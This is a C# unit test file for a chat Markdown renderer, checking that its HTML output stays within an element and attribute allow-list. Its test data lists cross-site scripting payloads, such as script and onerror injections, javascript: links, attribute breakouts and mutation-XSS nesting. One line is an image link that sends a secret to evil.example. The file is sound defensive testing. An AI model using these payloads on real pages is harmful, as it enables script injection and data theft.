using System.Text;
using AngleSharp.Html.Parser;
using Sanctum.Configurator.Features.Conversations.Rendering;
using Sanctum.Configurator.Tests.Support;

namespace Sanctum.Configurator.Tests.Features.Conversations;

/// <summary>What a model or a person writes does nothing to whoever reads it.</summary>
public sealed class MarkdownTextTests
{
    private static readonly string[] Elements =
    [
        "p",
        "br",
        "hr",
        "h3",
        "h4",
        "h5",
        "h6",
        "strong",
        "em",
        "del",
        "sub",
        "sup",
        "ins",
        "mark",
        "code",
        "pre",
        "span",
        "blockquote",
        "ul",
        "ol",
        "li",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "a",
        "div",
        "button",
    ];

    private static readonly string[] Attributes =
    [
        "href",
        "rel",
        "target",
        "class",
        "start",
        "tabindex",
        "role",
        "aria-label",
        "type",
        "data-copy-code",
    ];

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("![tracker](https://evil.example/p.png?q=secret)")]
    [InlineData("![x](javascript:alert(1))")]
    [InlineData("[click](javascript:alert(1))")]
    [InlineData("[click](JaVaScRiPt&#58;alert(1))")]
    [InlineData("[click](data:text/html;base64,PHNjcmlwdD4=)")]
    [InlineData("[click](vbscript:x)")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("[a]: javascript:alert(1)\n\n[a]")]
    [InlineData("[x](https://a.example/\" onmouseover=\"alert(1))")]
    [InlineData("```html\" onload=\"alert(1)\n<b>\n```")]
    [InlineData("```\n</code></pre><script>alert(1)</script>\n```")]
    [InlineData("<a href=\"https://x\" style=\"position:fixed\">x</a>")]
    [InlineData("<svg><style><!--</style><img src=x onerror=alert(1)>")]
    [InlineData("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")]
    [InlineData("| a |\n|---|\n| <iframe src=//x> |")]
    [InlineData("# <form action=//x><input name=a>")]
    [InlineData("text <base href=//evil> <meta http-equiv=refresh content=0>")]
    [InlineData("\u202e<b>gro.elpmaxe</b>\u0000")]
    public void An_attack_is_text(string markdown) => AssertHarmless(MarkdownText.Html(markdown));

    [Fact]
    public void Random_mixtures_of_attacks_are_text()
    {
        string[] pieces =
        [
            "<",
            ">",
            "\"",
            "'",
            "`",
            "```",
            "\n",
            "\n\n",
            "[",
            "]",
            "(",
            ")",
            "!",
            "javascript:",
            "<script",
            "onerror=",
            "<img src=x ",
            "&#",
            "&lt;",
            "|",
            "---",
            "*",
            "_",
            "~",
            "#",
            " ",
            "https://a.example",
            "html",
            "\0",
            "\u2028",
            "<!--",
            "-->",
            "<![CDATA[",
            "\\",
            "a",
            "1. ",
            "> ",
        ];
        var random = new Xorshift(20261130);
        for (var round = 0; round < 300; round++)
        {
            var text = new StringBuilder();
            for (var piece = random.Below(40); piece >= 0; piece--)
            {
                text.Append(pieces[random.Below(pieces.Length)]);
            }

            AssertHarmless(MarkdownText.Html(text.ToString()));
        }
    }

    [Fact]
    public void What_is_meant_is_kept()
    {
        var html = MarkdownText.Html(
            "# Title\n\n**bold** and `code`\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[site](https://a.example) https://b.example\n\n```csharp\nvar x = \"s\"; // note\n```"
        );

        Assert.Contains("<h3>Title</h3>", html, StringComparison.Ordinal);
        Assert.Contains("<strong>bold</strong>", html, StringComparison.Ordinal);
        Assert.Contains("<td>1</td>", html, StringComparison.Ordinal);
        Assert.Contains("""href="https://a.example" rel="noopener noreferrer nofollow" target="_blank">""", html, StringComparison.Ordinal);
        Assert.Contains("href=\"https://b.example\"", html, StringComparison.Ordinal);
        Assert.Contains("class=\"keyword\"", html, StringComparison.Ordinal);
        Assert.Contains("class=\"comment\"", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("html", "html")]
    [InlineData("", "Code")]
    [InlineData("<b>x", "&lt;b&gt;x")]
    [InlineData("\u202ejs", "⟨U+202E⟩js")]
    public void Code_says_its_language_and_can_be_copied(string language, string said)
    {
        var html = MarkdownText.Html($"```{language}\nx\n```");

        Assert.Contains($"<span>{said}</span>", html, StringComparison.Ordinal);
        Assert.Contains(
            """<button type="button" class="btn btn-quiet btn-small" data-copy-code="">Copy</button>""",
            html,
            StringComparison.Ordinal
        );
        AssertHarmless(html);
    }

    [Fact]
    public void A_picture_is_a_link_and_the_unseen_is_shown_in_code()
    {
        var html = MarkdownText.Html("![map](https://a.example/m.png)\n\n```\nif (admin\u202e) // x\n```");

        Assert.Contains(">Picture: map</a>", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<img", html, StringComparison.Ordinal);
        Assert.Contains("⟨U+202E⟩", html, StringComparison.Ordinal);
    }

    [Fact]
    public void What_is_nested_too_deep_is_shown_as_it_was_written()
    {
        AssertHarmless(MarkdownText.Html(new string('>', 20_000) + "<script>"));
        AssertHarmless(MarkdownText.Html(new string('[', 5_000)));
    }

    [Fact]
    public void Text_that_grows_is_drawn_in_blocks_of_which_the_last_changes()
    {
        var blocks = new MarkdownBlocks();
        foreach (var letter in "First *one*.\n\n```csharp\nvar a = 1;\n\nvar b = 2;\n```\n\nLa")
        {
            blocks.Add(letter.ToString());
        }

        Assert.Equal([0, 1, 2], blocks.Blocks.Select(block => block.Number));
        var before = blocks.Blocks.ToList();
        blocks.Add("st");
        Assert.Same(before[1].Html, blocks.Blocks.ElementAt(1).Html);
        Assert.Contains("<p>Last</p>", blocks.Blocks.Last().Html, StringComparison.Ordinal);
        Assert.Single(blocks.Blocks, block => block.Html.Contains("code-colours", StringComparison.Ordinal));
    }

    [Fact]
    public void Of_ten_megabytes_only_the_end_is_kept()
    {
        var blocks = new MarkdownBlocks();
        var paragraph = new string('x', 1_000) + "\n\n";
        for (var at = 0; at < 10_000; at++)
        {
            blocks.Add(paragraph);
        }

        Assert.True(blocks.Left > 9_000_000);
        Assert.True(blocks.Blocks.Sum(block => block.Html.Length) < 200_000);
        blocks.Add(new string('y', 1_000_000));
        Assert.True(blocks.Blocks.Sum(block => block.Html.Length) < 250_000);
    }

    private static void AssertHarmless(string html)
    {
        var document = new HtmlParser().ParseDocument($"<body>{html}</body>");
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, Elements);
            foreach (var attribute in element.Attributes)
            {
                Assert.Contains(attribute.Name, Attributes);
                if (attribute.Name == "href")
                {
                    Assert.Matches("^(?i)(https?:|mailto:|[^:]*$)", attribute.Value);
                }
            }
        }
    }
}
